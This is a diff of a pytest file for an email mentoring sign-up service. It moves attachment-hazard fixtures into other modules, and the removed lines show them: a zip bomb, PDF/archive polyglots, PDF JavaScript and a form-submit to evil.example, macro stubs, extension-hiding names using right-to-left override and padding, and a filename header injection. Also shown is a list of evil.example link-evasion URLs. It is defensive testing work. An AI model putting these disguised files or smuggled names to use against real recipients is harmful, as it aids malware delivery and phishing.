@@ -3,10 +3,8 @@
 
 from __future__ import annotations
 
-import io
 import re
 import sqlite3
-import zipfile
 from collections.abc import Iterator
 from contextlib import closing
 from email.message import EmailMessage
@@ -19,27 +17,17 @@ import pytest
 from processor.config.roster import read_roster
 from processor.core.mail import OutboundMail
 from processor.stages.ports import Store
-from tests.attack.attempts import SERVER, everything
+from tests.attack.cvs import HAZARDS, files_in, lee_is_introduced, signs_up_with
+from tests.attack.letters import LEADS, everything
+from tests.attack.mails_by_hand import SERVER
+from tests.attack.people import LEE
 from tests.attacks import JON, MIA, Attacked, to
-from tests.cv_samples import docx, pdf
-from tests.doors.postgres import (
-    made_postgres_url,
-    made_template,
-    migrated_postgres_url,
-    postgres_server,
-)
-from tests.doors.stores import empty_file, migrated_sqlite_url, open_kept, place_of_the_file
+from tests.cv_samples import pdf
+from tests.doors.stores import open_kept
 from tests.operation.small import SmallProgram
 from tests.player import ADDRESS, COORDINATOR
 from tests.post_office import see
 from tests.shipped_rules import RULES
-
-__all__ = [
-    "empty_file", "made_postgres_url", "made_template", "migrated_postgres_url", "migrated_sqlite_url",
-    "place_of_the_file", "postgres_server",
-]  # fmt: skip
-
-LEE = "lee@college.example"
 
 
 @pytest.fixture(params=["sqlite", "postgres"])
@@ -178,87 +166,14 @@ def test_who_is_on_the_roster_in_another_case_of_the_host_may_sign_up(rostered: 
 # --- a mail with a file ------------------------------------------------------------------------------------
 
 
-def sign_up_with(
-    world: Attacked, files: list[tuple[str | None, bytes, str]], *, inline: bool = False
-) -> list[OutboundMail]:
-    mail = EmailMessage(policy=SMTP)
-    mail["Authentication-Results"] = f"{SERVER}; dmarc=pass header.from=college.example"
-    mail["From"], mail["To"], mail["Subject"] = f"Lee Chan <{LEE}>", ADDRESS, "SIGN UP MENTEE"
-    mail["Message-ID"] = f"<{world.player.taken}.cv@college.example>"
-    mail.set_content("Name: Lee Chan\nPractice areas: Critical care\nGoals: To learn.\n")
-    for name, content, kind in files:
-        mail.add_attachment(
-            content,
-            maintype="application",
-            subtype=kind,
-            filename=name,
-            disposition="inline" if inline else "attachment",
-        )
-    world.player.take_in(mail.as_bytes())
-    return world.work()
-
-
-def introduced(world: Attacked) -> list[OutboundMail]:
-    """Lee asks Jon, who says yes: all mails to Jon afterwards."""
-    asked = to(world.write(LEE, "REQUEST M-1001", "Would you?"), JON)
-    assert asked, "the request did not reach the mentor"
-    world.reply(JON, asked[0], "Accept")
-    world.later(hours=3)
-    return to(world.player.post.sent, JON)
-
-
-def files_in(mails: list[OutboundMail]) -> list[tuple[str, bytes]]:
-    return [
-        (part.get_filename(""), bytes(part.get_payload(decode=True) or b""))
-        for mail in mails for part in see(mail).parts
-        if part.get_filename("") and part.get_filename("") != "invite.ics" and part.get_content_type() != "message/rfc822"
-    ]  # fmt: skip
-
-
-def bomb() -> bytes:
-    made = io.BytesIO()
-    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("[Content_Types].xml", "<Types/>")
-        archive.writestr("word/document.xml", b"a" * 80_000_000)
-    return made.getvalue()
-
-
-def packed_zip(name: str) -> bytes:
-    made = io.BytesIO()
-    with zipfile.ZipFile(made, "w") as archive:
-        archive.writestr(name, b"MZ" + bytes(100))
-    return made.getvalue()
-
-
-HAZARDS: dict[str, tuple[str | None, bytes, str]] = {
-    "a PDF that is an archive as well": ("cv.pdf", pdf() + packed_zip("run.exe"), "pdf"),
-    "an archive with a PDF behind it": ("cv.pdf", packed_zip("run.exe") + pdf(), "pdf"),
-    "a PDF with a script": (
-        "cv.pdf",
-        pdf(b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"),
-        "pdf",
-    ),
-    "a PDF that sends a form": ("cv.pdf", pdf(b"<</S/SubmitForm/F(http://evil.example)>>"), "pdf"),
-    "a bomb": ("cv.docx", bomb(), "octet-stream"),
-    "macros": ("cv.docx", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}), "octet-stream"),
-    "a program called a PDF": ("cv.pdf", b"MZ" + bytes(2000), "pdf"),
-    "a page called a PDF": ("cv.pdf", b"<html><script>alert(1)</script></html>", "pdf"),
-    "two endings": ("cv.pdf.exe", pdf(), "octet-stream"),
-    "a name turned round": ("cv\u202efdp.exe", pdf(), "octet-stream"),
-    "an ending behind blanks": ("cv.pdf" + " " * 200 + ".exe", pdf(), "octet-stream"),
-    "a link of Windows": ("cv.lnk", b"L\0\0\0" + bytes(100), "octet-stream"),
-    "an archive": ("cv.zip", packed_zip("cv.pdf"), "zip"),
-}
-
-
 @pytest.mark.parametrize("which", HAZARDS)
 def test_a_file_with_a_hazard_reaches_nobody_and_the_sender_hears_of_it(which: str) -> None:
     world = Attacked()
-    sent = sign_up_with(world, [HAZARDS[which]])
+    sent = signs_up_with(world, [HAZARDS[which]])
     world.later(minutes=5)
     assert sent, "silence toward who signed up"
     if LEE in {m["email"] for m in world.player.records()["members"]}:
-        introduced(world)
+        lee_is_introduced(world)
     assert files_in(list(world.player.post.sent)) == []
 
 
@@ -280,7 +195,7 @@ NAMES = {
 def test_a_good_cv_with_an_odd_name_arrives_with_a_plain_one(which: str) -> None:
     world = Attacked()
     try:
-        sign_up_with(world, [(NAMES[which], pdf(), "pdf")])
+        signs_up_with(world, [(NAMES[which], pdf(), "pdf")])
     except ValueError:  # the mail itself cannot be made so: its field goes in by hand
         raw = (
             (
@@ -294,7 +209,7 @@ def test_a_good_cv_with_an_odd_name_arrives_with_a_plain_one(which: str) -> None
         )
         world.player.take_in(raw)
         world.work()
-    mails = introduced(world)
+    mails = lee_is_introduced(world)
     found = files_in(mails)
     assert [content.strip() for _, content in found] == [pdf().strip()]
     (name, _) = found[0]
@@ -307,27 +222,27 @@ def test_a_good_cv_with_an_odd_name_arrives_with_a_plain_one(which: str) -> None
 @pytest.mark.parametrize("name", ["cv\u202e\u2066.pdf", "cv\u200b.pdf", 'cv"; filename="run.exe.pdf'])
 def test_a_cv_whose_name_hides_something_is_refused_and_the_sender_hears_why(name: str) -> None:
     world = Attacked()
-    sent = sign_up_with(world, [(name, pdf(), "pdf")])
+    sent = signs_up_with(world, [(name, pdf(), "pdf")])
     assert "We have not kept the CV" in everything(to(sent, LEE))
-    assert files_in(introduced(world)) == []
+    assert files_in(lee_is_introduced(world)) == []
 
 
 def test_a_cv_with_no_name_breaks_nothing() -> None:
     world = Attacked()
-    assert sign_up_with(world, [(None, pdf(), "pdf")])
-    introduced(world)
+    assert signs_up_with(world, [(None, pdf(), "pdf")])
+    lee_is_introduced(world)
 
 
 def test_of_two_cvs_at_most_one_goes_out_and_the_sign_up_counts() -> None:
     world = Attacked()
-    assert sign_up_with(world, [("one.pdf", pdf(b"<</A 1>>"), "pdf"), ("two.pdf", pdf(b"<</B 2>>"), "pdf")])
-    assert len(files_in(introduced(world))) <= 1
+    assert signs_up_with(world, [("one.pdf", pdf(b"<</A 1>>"), "pdf"), ("two.pdf", pdf(b"<</B 2>>"), "pdf")])
+    assert len(files_in(lee_is_introduced(world))) <= 1
 
 
 def test_a_cv_that_is_shown_inline_arrives_too() -> None:
     world = Attacked()
-    sign_up_with(world, [("cv.pdf", pdf(), "pdf")], inline=True)
-    assert len(files_in(introduced(world))) == 1
+    signs_up_with(world, [("cv.pdf", pdf(), "pdf")], inline=True)
+    assert len(files_in(lee_is_introduced(world))) == 1
 
 
 # --- what no database may stumble over ------------------------------------------------------------------------
@@ -489,7 +404,6 @@ LINKS = [
     "https://program.example@evil.example", "https:/evil.example", "https:\\\\evil.example", "//evil.example/x", "\\\\evil.example\\share", "www.evil.example",
     "https://1.2.3.4/", "https://[2001:db8::1]/", "https://0x7f000001/", "tel:+19005551234", "eve@evil.example", "ftp.evil.example", "evil。example", "evil．example/x",
 ]  # fmt: skip
-LEADS = re.compile(r"""\b(?:href|src|action|background)\s*=\s*["']?([^"'\s>]+)""", re.IGNORECASE)
 
 
 def active_links(mails: list[OutboundMail]) -> list[str]:
